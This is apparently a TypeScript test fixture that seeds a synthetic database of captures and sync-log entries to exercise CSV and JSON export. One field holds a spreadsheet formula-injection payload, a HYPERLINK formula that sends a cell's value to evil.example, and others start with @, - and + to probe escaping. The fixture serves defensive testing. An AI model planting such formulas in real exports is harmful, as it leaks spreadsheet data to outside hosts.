/** A small, varied database for export and import tests (synthetic people and text). */
import { CaptureSchema, type Capture } from '../../lib/capture';
import type { SourcedDatabase } from '../../lib/db/database';
import type { SyncLogEntry } from '../../lib/sync-log';
import { capture, NOW } from './capture-fixtures';

const at = (minutes: number) => new Date(NOW.getTime() + minutes * 60_000).toISOString();

/** Captures in every status, with the text a CSV and a JSON writer find hard. */
export function variedCaptures(): Capture[] {
  const draft = capture({ capturedAt: at(0), updatedAt: at(0) });
  const queuedWithdrawal = capture({
    capturedAt: at(1),
    updatedAt: at(5),
    status: 'queued',
    intent: 'withdraw',
    revision: 2,
    deliveredRevision: 1,
    deliveredAt: at(2),
    submittedAt: at(1),
    attempts: 1,
    nextAttemptAt: at(30),
    lastError: 'server error (503), will retry',
  });
  const delivered = capture({
    capturedAt: at(2),
    updatedAt: at(3),
    status: 'delivered',
    submittedAt: at(2),
    deliveredAt: at(3),
    deliveredRevision: 1,
    attempts: 1,
    receipt: { id: 'rcpt_42', url: 'https://recognition.example.com/r/42' },
    outcome: {
      type: 'customer',
      stage: 'won',
      value: { amount: 1250.5, currency: 'EUR' },
      note: 'Said "yes", then signed, at the café 🎉\nSecond line, with a comma',
      crmRef: '=HYPERLINK("https://evil.example/?"&A1,"open")',
    },
  });
  const failed = capture({
    capturedAt: at(2), // same time as `delivered`: paging must order ties by id
    updatedAt: at(4),
    status: 'failed',
    submittedAt: at(2),
    attempts: 2,
    lastError: 'rejected (422): outcome.stage is not allowed',
    employee: { name: '@Zoë Exämple', email: 'zoe@example.com', team: '-Sales', employeeId: '+44' },
  });
  const withdrawn = capture({
    capturedAt: at(3),
    updatedAt: at(6),
    status: 'withdrawn',
    intent: 'withdraw',
    post: {
      url: 'https://x.com/someone/status/1790000000000000001',
      id: '1790000000000000001',
      kind: 'quote',
      author: { handle: '@someone' },
      excerpt: 'A tab\there, a carriage return\rthere',
      quoted: { url: 'https://x.com/other/status/1790000000000000000' },
      partial: true,
    },
    platform: 'x',
  });
  // Through the schema, as the store writes them: the export reads what the store wrote.
  return [draft, queuedWithdrawal, delivered, failed, withdrawn].map((c) => CaptureSchema.parse(c));
}

export function variedSyncLog(captures: Capture[]): SyncLogEntry[] {
  return [
    {
      at: at(2),
      captureId: captures[2]!.id,
      eventId: `${captures[2]!.id}.1`,
      url: 'https://recognition.example.com/sourced',
      status: 200,
      result: 'delivered',
      durationMs: 120,
    },
    {
      at: at(3),
      captureId: captures[3]!.id,
      eventId: `${captures[3]!.id}.1`,
      url: 'https://recognition.example.com/sourced',
      status: 422,
      result: 'rejected',
      durationMs: 80.5,
      error: 'rejected (422): outcome.stage is not allowed',
    },
    {
      at: at(4),
      eventId: 'test_0b9c0a1e-0000-4000-8000-000000000001',
      url: 'https://recognition.example.com/sourced',
      status: 0,
      result: 'test',
      durationMs: 30_000,
      error: 'could not connect',
    },
  ];
}

export async function seed(db: SourcedDatabase, captures: Capture[], log: SyncLogEntry[] = []) {
  await db.captures.bulkAdd(captures);
  if (log.length) await db.syncLog.bulkAdd(log);
}
